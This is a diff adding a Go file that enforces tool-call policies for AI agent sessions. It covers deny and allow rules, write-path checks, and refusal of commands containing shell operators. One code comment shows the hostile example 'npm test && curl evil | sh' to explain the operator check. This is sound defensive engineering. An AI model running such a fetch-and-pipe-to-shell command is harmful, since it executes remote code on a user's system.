@@ -0,0 +1,203 @@
+package service
+
+import (
+	"fmt"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"sync"
+
+	"github.com/ricochet1k/orbitmesh/internal/domain"
+)
+
+// toolPolicies holds the compiled tool policies of projects and agents.
+type toolPolicies struct {
+	mu        sync.RWMutex
+	byProject map[string]compiledToolPolicy
+	byAgent   map[string]compiledToolPolicy
+}
+
+func newToolPolicies() *toolPolicies {
+	return &toolPolicies{
+		byProject: make(map[string]compiledToolPolicy),
+		byAgent:   make(map[string]compiledToolPolicy),
+	}
+}
+
+type commandRule struct {
+	pattern string
+	re      *regexp.Regexp
+}
+
+type compiledToolPolicy struct {
+	policy        domain.ToolPolicy
+	allowCommands []commandRule
+	denyCommands  []commandRule
+}
+
+func compileToolPolicy(p *domain.ToolPolicy) (compiledToolPolicy, error) {
+	if err := p.Validate(); err != nil {
+		return compiledToolPolicy{}, err
+	}
+	compile := func(patterns []string) []commandRule {
+		rules := make([]commandRule, len(patterns))
+		for i, pattern := range patterns {
+			rules[i] = commandRule{pattern: pattern, re: regexp.MustCompile(pattern)}
+		}
+		return rules
+	}
+	return compiledToolPolicy{
+		policy:        *p,
+		allowCommands: compile(p.AllowCommands),
+		denyCommands:  compile(p.DenyCommands),
+	}, nil
+}
+
+// evaluate returns the policy's outcome for call and the rule that decided
+// it. Relative write paths are resolved against workingDir.
+func (c compiledToolPolicy) evaluate(call domain.ToolPolicyCall, workingDir string) (domain.ToolPolicyOutcome, string) {
+	p := c.policy
+	if slices.Contains(p.Deny, call.Tool) {
+		return domain.ToolPolicyDeny, fmt.Sprintf("deny %q", call.Tool)
+	}
+	if call.Command != "" {
+		for _, r := range c.denyCommands {
+			if r.re.MatchString(call.Command) {
+				return domain.ToolPolicyDeny, fmt.Sprintf("deny_commands %q", r.pattern)
+			}
+		}
+	}
+	if len(p.WritePaths) > 0 {
+		for _, path := range call.WritePaths {
+			if !slices.ContainsFunc(p.WritePaths, func(pattern string) bool { return writePathMatches(pattern, path, workingDir) }) {
+				return domain.ToolPolicyDeny, fmt.Sprintf("write_paths does not include %q", path)
+			}
+		}
+	}
+	if call.Command != "" && !hasShellOperators(call.Command) {
+		for _, r := range c.allowCommands {
+			if r.re.MatchString(call.Command) {
+				return domain.ToolPolicyAllow, fmt.Sprintf("allow_commands %q", r.pattern)
+			}
+		}
+	}
+	if slices.Contains(p.Allow, call.Tool) {
+		return domain.ToolPolicyAllow, fmt.Sprintf("allow %q", call.Tool)
+	}
+	if p.Default != "" {
+		return p.Default, "default"
+	}
+	return "", ""
+}
+
+// shellOperators chain, substitute or redirect commands. allow_commands
+// only ever allows a single simple command, so "npm test && curl evil | sh"
+// is not allowed by a rule for "^npm test", and a redirect cannot write
+// outside write_paths.
+var shellOperators = []string{";", "&", "|", "`", "$(", "${", "<", ">", "\n", "\r"}
+
+// hasShellOperators reports whether command is more than one simple
+// command, or substitutes or redirects anything.
+func hasShellOperators(command string) bool {
+	return slices.ContainsFunc(shellOperators, func(op string) bool { return strings.Contains(command, op) })
+}
+
+// writePathMatches reports whether path, resolved against workingDir, is
+// matched by pattern: a glob, or a directory followed by "/**".
+func writePathMatches(pattern, path, workingDir string) bool {
+	abs := func(p string) string {
+		if !filepath.IsAbs(p) {
+			p = filepath.Join(workingDir, p)
+		}
+		return filepath.Clean(p)
+	}
+	path = abs(path)
+	if dir, ok := strings.CutSuffix(pattern, "/**"); ok {
+		dir = abs(dir)
+		return path == dir || strings.HasPrefix(path, dir+string(filepath.Separator))
+	}
+	ok, _ := filepath.Match(abs(pattern), path)
+	return ok
+}
+
+// SetProjectToolPolicy sets the tool policy of a project's sessions. A nil
+// policy removes it.
+func (e *AgentExecutor) SetProjectToolPolicy(projectID string, policy *domain.ToolPolicy) error {
+	return e.toolPolicies.set(e.toolPolicies.byProject, projectID, policy)
+}
+
+// SetAgentToolPolicy sets the tool policy of the sessions using an agent
+// config. A nil policy removes it.
+func (e *AgentExecutor) SetAgentToolPolicy(agentID string, policy *domain.ToolPolicy) error {
+	return e.toolPolicies.set(e.toolPolicies.byAgent, agentID, policy)
+}
+
+func (t *toolPolicies) set(policies map[string]compiledToolPolicy, id string, policy *domain.ToolPolicy) error {
+	if policy == nil {
+		t.mu.Lock()
+		delete(policies, id)
+		t.mu.Unlock()
+		return nil
+	}
+	compiled, err := compileToolPolicy(policy)
+	if err != nil {
+		return err
+	}
+	t.mu.Lock()
+	policies[id] = compiled
+	t.mu.Unlock()
+	return nil
+}
+
+// EvaluateToolPolicy decides a tool call by the session's project and agent
+// tool policies. A deny from either wins over an allow; a call neither
+// decides is left to the session's approvals. Each decision is published as
+// a "tool_policy" metadata event.
+func (e *AgentExecutor) EvaluateToolPolicy(id string, call domain.ToolPolicyCall) domain.ToolPolicyDecision {
+	sess, err := e.GetSession(id)
+	if err != nil {
+		return domain.ToolPolicyDecision{}
+	}
+
+	type sourced struct {
+		source string
+		policy compiledToolPolicy
+	}
+	var policies []sourced
+	e.toolPolicies.mu.RLock()
+	if p, ok := e.toolPolicies.byProject[sess.ProjectID]; ok && sess.ProjectID != "" {
+		policies = append(policies, sourced{"project", p})
+	}
+	if p, ok := e.toolPolicies.byAgent[sess.AgentID]; ok && sess.AgentID != "" {
+		policies = append(policies, sourced{"agent", p})
+	}
+	e.toolPolicies.mu.RUnlock()
+	if len(policies) == 0 {
+		return domain.ToolPolicyDecision{}
+	}
+
+	var decision domain.ToolPolicyDecision
+	for _, p := range policies {
+		outcome, rule := p.policy.evaluate(call, sess.WorkingDir)
+		if outcome == domain.ToolPolicyDeny || (outcome == domain.ToolPolicyAllow && decision.Outcome == "") {
+			decision = domain.ToolPolicyDecision{Outcome: outcome, Source: p.source, Rule: rule}
+		}
+		if outcome == domain.ToolPolicyDeny {
+			break
+		}
+	}
+
+	outcome := string(decision.Outcome)
+	if outcome == "" {
+		outcome = "ask"
+	}
+	e.broadcaster.Broadcast(domain.NewMetadataEvent(id, "tool_policy", map[string]any{
+		"tool_call_id": call.ToolCallID,
+		"tool":         call.Tool,
+		"decision":     outcome,
+		"source":       decision.Source,
+		"rule":         decision.Rule,
+	}, nil))
+	return decision
+}